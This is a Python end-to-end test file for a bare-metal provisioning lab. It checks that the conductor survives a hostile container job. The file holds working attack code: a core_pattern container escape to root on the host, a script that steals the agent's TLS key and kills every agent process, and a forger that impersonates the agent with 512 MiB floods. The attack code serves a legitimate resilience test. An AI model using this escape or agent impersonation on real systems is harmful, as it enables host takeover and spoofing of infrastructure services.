# Licensed under the Apache License, Version 2.0 (the "License"); you may
# not use this file except in compliance with the License. You may obtain
# a copy of the License at
#
#      http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS, WITHOUT
# WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied. See the
# License for the specific language governing permissions and limitations
# under the License.

"""A hostile workload on a real QEMU node: it leaves its container, kills
the agent and answers in its place, with the agent's own TLS key.

The job is privileged (the default: root next to the agent, as bare metal
gives a tenant).  Once the deploy has ended it points the kernel's
``core_pattern`` at a script in its own root and dumps core: the kernel
runs that script as root in the node's own namespaces (the classic escape
of a privileged container).  The script starts a forger with the node's
Python, which reads the agent's auto-TLS certificate and key, kills every
agent process (again each time systemd restarts one) and serves the
agent's port with that certificate, so the conductor's pinned-CA check
passes, answering every request with 512 MiB: far more than any reply
the conductor reads (``output_max_mb`` plus ``results_max_mb`` as base64,
about 44 MiB), so a conductor that read it all would grow by more than
the whole flood, and one that stops at its bound by less than a third of
it.  What the run may reach is its own report: the run ends
``failed`` saying the node answered outside the protocol, the node is
powered off, the conductor keeps running with its memory bounded, and an
undeploy frees the node.
"""

import os

import pytest

from bmc_common import protocol
from bmc_lab import client as lab_client
from bmc_lab import container_job
from bmc_lab import nodes
from bmc_lab import procs

#: Where the agent stages the container's root (the overlay's merged
#: tree): the image's files, as the node's own namespaces see them.
NODE_ROOT = '/var/lib/bmc/root'

#: The conductor's growth (MiB) that tells a read stopped at its bound
#: (about 44 MiB, and a copy or two) from a read of the whole 512 MiB
#: flood the forger sends.
FLOOD_BOUND_MIB = 160

HOSTILE = b"""#!/bin/sh
# Wait for the deploy to end (the conductor then only polls).
sleep 30
echo "|%(root)s/escape.sh" > /proc/sys/kernel/core_pattern || exit 3
ulimit -c unlimited
sh -c 'kill -SEGV $$'
echo "hostile: core dumped; the forger runs outside"
sleep 3600
""" % {b'root': NODE_ROOT.encode()}

#: Run by the kernel, as root, in the node's namespaces.
ESCAPE = b"""#!/bin/sh
/usr/bin/setsid /usr/bin/python3 %(root)s/forge.py </dev/null \
    >/dev/null 2>&1 &
exit 0
""" % {b'root': NODE_ROOT.encode()}

FORGE = b"""
import http.server
import os
import signal
import ssl
import threading
import time

TLS = '/run/ironic-python-agent'
FLOOD = 512 << 20


def kill_agents():
    while True:
        for pid in os.listdir('/proc'):
            if not pid.isdigit() or int(pid) == os.getpid():
                continue
            try:
                with open('/proc/%s/cmdline' % pid, 'rb') as f:
                    if b'ironic-python-agent' in f.read():
                        os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass
        time.sleep(1)


class Flood(http.server.BaseHTTPRequestHandler):
    def answer(self):
        self.send_response(200)
        self.send_header('Content-Type', 'application/json')
        self.send_header('Content-Length', str(FLOOD))
        self.end_headers()
        chunk = b'0' * (1 << 20)
        try:
            for _ in range(FLOOD >> 20):
                self.wfile.write(chunk)
        except OSError:
            pass

    do_GET = do_POST = answer

    def log_message(self, *args):
        pass


context = None
if os.path.exists(os.path.join(TLS, 'agent.key')):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(os.path.join(TLS, 'agent.crt'),
                            os.path.join(TLS, 'agent.key'))
threading.Thread(target=kill_agents, daemon=True).start()
while True:
    try:
        server = http.server.ThreadingHTTPServer(('0.0.0.0', 9999), Flood)
        break
    except OSError:
        time.sleep(0.2)
if context:
    server.socket = context.wrap_socket(server.socket, server_side=True)
server.serve_forever()
"""


def _conductor_pids(lab):
    """The conductor's processes: the lab's Ironic (or conductor) and the
    service workers it forks, which do the work."""
    top = (procs.pid_of(lab, 'ironic-conductor')
           or procs.pid_of(lab, 'ironic'))
    pids = [top]
    for entry in os.listdir('/proc'):
        if not entry.isdigit():
            continue
        try:
            with open('/proc/%s/stat' % entry) as f:
                ppid = int(f.read().rsplit(')', 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            continue
        if ppid == top:
            pids.append(int(entry))
    return sorted(pids)


def _memory_mib(pids, key):
    """The largest ``key`` (VmRSS, VmHWM) of ``pids``, in MiB."""
    found = []
    for pid in pids:
        with open('/proc/%d/status' % pid) as f:
            found += [int(line.split()[1]) / 1024.0 for line in f
                      if line.startswith(key + ':')]
    return max(found)


@pytest.fixture(scope='module')
def hostile_run(lab):
    image = container_job.push_demo_image_with(
        lab, 'e2e-hostile', {'/hostile.sh': HOSTILE, '/escape.sh': ESCAPE,
                             '/forge.py': FORGE},
        cmd=['/hostile.sh'])
    pids = _conductor_pids(lab)
    rss_before = _memory_mib(pids, 'VmRSS')
    container_job.deploy(lab, image, mode=protocol.MODE_JOB)
    report = container_job.wait_report(lab, states=('failed', 'finished'),
                                       timeout=300)
    print(container_job.format_report(report))
    run = {
        'report': report,
        'power': nodes.bmc_power_state(lab, 0),
        'pids_before': pids,
        'pids_after': _conductor_pids(lab),
        'rss_before_mib': rss_before,
        'peak_mib': _memory_mib(pids, 'VmHWM'),
        'rss_after_mib': _memory_mib(pids, 'VmRSS'),
        'last_error': lab_client.get_client(lab).node.get(
            lab.node_name(0)).last_error,
    }
    print('conductor RSS %(rss_before_mib).0f MiB before, peak '
          '%(peak_mib).0f MiB, %(rss_after_mib).0f MiB after' % run)
    # The undeploy reads the node once more (its closing collect) and
    # gets the flood again: it must still free the node.
    container_job.undeploy(lab)
    run['state_after_undeploy'] = lab_client.get_client(lab).node.get(
        lab.node_name(0)).provision_state
    return run


def test_forged_replies_end_the_run_not_the_conductor(hostile_run):
    report = hostile_run['report']
    assert report['state'] == 'failed', report
    assert 'answered outside the protocol' in report['error'], report
    assert 'reply refused: body larger than' in report['error'], report
    assert hostile_run['last_error'] == report['error']
    assert hostile_run['power'] == 'off'
    # The conductor kept running, and read no more of the flood than its
    # bound: a 512 MiB reply, of which it may hold its bound (about
    # 44 MiB) and a copy or two; reading it all would take 512 MiB.
    assert hostile_run['pids_after'] == hostile_run['pids_before']
    assert len(hostile_run['pids_before']) >= 2   # the service's workers
    assert (hostile_run['peak_mib'] - hostile_run['rss_before_mib']
            < FLOOD_BOUND_MIB), hostile_run

    assert hostile_run['state_after_undeploy'] == 'available'
